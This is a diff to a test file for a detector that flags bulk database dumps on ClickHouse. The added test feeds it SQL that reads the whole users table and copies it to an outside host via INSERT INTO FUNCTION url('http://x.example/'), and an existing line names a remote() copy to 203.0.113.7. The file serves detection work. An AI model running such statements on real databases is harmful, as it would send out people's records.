@@ -72,6 +72,15 @@ describe('database-dump on ClickHouse', () => {
         'tables copied out with INSERT INTO FUNCTION remote (203.0.113.7:9000), the first users',
       ],
     ]);
+    // Read whole, then copied off site: the copy is told too.
+    const copied = run([
+      'SELECT * FROM users FORMAT CSV',
+      "INSERT INTO FUNCTION url('http://x.example/', 'CSV') SELECT * FROM users",
+    ]);
+    expect(copied.map((h) => [h.severity, h.confidence, h.count])).toEqual([
+      ['medium', 0.6, 1],
+      ['high', 0.9, 1],
+    ]);
     expect(told(["INSERT INTO FUNCTION file('users.native', 'Native') SELECT * FROM users"])).toEqual([
       ['medium', 0.6, 1, 'tables read whole with INSERT INTO FUNCTION file (users.native), the first users'],
     ]);
